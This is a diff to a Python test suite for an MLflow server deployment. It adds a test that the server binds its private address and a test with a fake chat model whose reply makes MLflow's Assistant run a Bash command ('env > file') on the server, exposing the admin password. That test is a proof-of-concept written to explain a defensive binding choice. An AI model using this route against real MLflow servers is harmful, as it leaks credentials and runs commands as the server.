@@ -27,6 +27,7 @@ import urllib.request
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler
 from pathlib import Path
 from typing import Any
 
@@ -36,6 +37,7 @@ import yaml
 from doubles import mlflow_server_boot
 from doubles.aws_limits import EC2_USER_DATA_MAX_BYTES
 from doubles.gpu_runner_stack import REGION
+from doubles.local_http import LocalHttpServer
 from doubles.mlflow_server_stack import REQUIREMENTS, TRAIN_CONFIG, deployed
 from mlflow.tracking import MlflowClient
 
@@ -480,3 +482,77 @@ def test_a_requirements_file_replaced_in_the_bucket_is_never_installed(
     assert boot.result.returncode != 0
     assert "does not match its sha256" in boot.result.stdout.decode()
     assert [c.name for c in boot.calls() if c.name in ("pip", "systemctl")] == []
+
+
+def test_mlflow_listens_on_the_private_address_only(team: Team) -> None:
+    """The unit binds the address `hostname -I` answers (on the instance its private address; the sandbox's stub
+    answers 127.0.0.1), never a wildcard; the ready mark and the health check use it too."""
+    assert any(c.is_("hostname", "-I") for c in team.boot.calls())
+    unit = (team.boot.root / "etc" / "systemd" / "system" / "mlflow.service").read_text(encoding="utf-8")
+    (start,) = [line for line in unit.splitlines() if line.startswith("ExecStart=")]
+    port = team.uri.rsplit(":", 1)[1]
+    assert f" --host 127.0.0.1 --port {port} " in start, start
+    assert "0.0.0.0" not in team.script and "MLFLOW_SERVER_TEST_HOST" not in team.script
+    ready = team.server["session"].client("ssm").get_parameter(Name=team.server["outputs"]["ReadyParameter"])
+    assert ready["Parameter"]["Value"] == team.uri
+
+
+class FakeChatModel(BaseHTTPRequestHandler):
+    """An OpenAI-compatible chat model as Ollama serves one (GET /api/tags lists models; POST
+    /v1/chat/completions answers server-sent events, `data: <chunk>` then `data: [DONE]`): its first answer calls
+    the Bash tool with COMMAND, its second (after the tool's result) says it is done."""
+
+    command = ""
+
+    def do_GET(self) -> None:
+        self._send("application/json", json.dumps({"models": [{"model": "m"}]}).encode())
+
+    def do_POST(self) -> None:
+        request = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+        if any(message.get("role") == "tool" for message in request["messages"]):
+            delta, finish = {"content": "done"}, "stop"
+        else:
+            call = {"index": 0, "id": "call_1", "type": "function",
+                    "function": {"name": "Bash", "arguments": json.dumps({"command": type(self).command})}}  # fmt: skip
+            delta, finish = {"tool_calls": [call]}, "tool_calls"
+        chunk = {"choices": [{"delta": delta, "finish_reason": finish}]}
+        self._send("text/event-stream", f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n".encode())
+
+    def _send(self, kind: str, body: bytes) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+def test_a_request_from_loopback_runs_commands_on_the_server(team: Team, tmp_path: Path) -> None:
+    """Why MLflow never listens on 127.0.0.1, and the tunnel document names the private address: MLflow 3.17.2 lets
+    any signed-in user whose request comes from a loopback address configure its Assistant (provider, base URL,
+    `full_access`) and run its Bash tool on the server, as the server, with its environment: ci gets the admin
+    password. Here the request comes from 127.0.0.1 because the sandbox has no other address; through the
+    tunnel it comes from the instance's private address, and the Assistant API refuses every client that is not
+    loopback (mlflow/server/assistant/api.py: _RemoteAccessPolicy, MLFLOW_ENABLE_REMOTE_ASSISTANT off). Only a
+    real instance shows that source address (docs/mlflow-server.md says how the first real run checks it)."""
+    marker = tmp_path / "from-the-server.txt"
+    FakeChatModel.command = f"env > {marker}"
+    with LocalHttpServer(FakeChatModel) as model:
+        provider = {
+            "model": "m",
+            "base_url": model.url,
+            "selected": True,
+            "permissions": {"full_access": True},
+        }
+        configured = call(team, "ci", "PUT", "/ajax-api/3.0/mlflow/assistant/config",
+                          {"providers": {"ollama": provider}, "projects": {"0": {"type": "local",
+                                                                                  "location": str(tmp_path)}}})  # fmt: skip
+        assert configured[0] == 200, configured
+        status, text = call(team, "ci", "POST", "/ajax-api/3.0/mlflow/assistant/message",
+                            {"message": "hello", "experiment_id": "0"})  # fmt: skip
+        assert status == 200, text
+        stream = call(team, "ci", "GET", json.loads(text)["stream_url"])
+        assert stream[0] == 200, stream
+    assert f"MLFLOW_AUTH_ADMIN_PASSWORD={team.passwords['admin']}" in marker.read_text(encoding="utf-8")
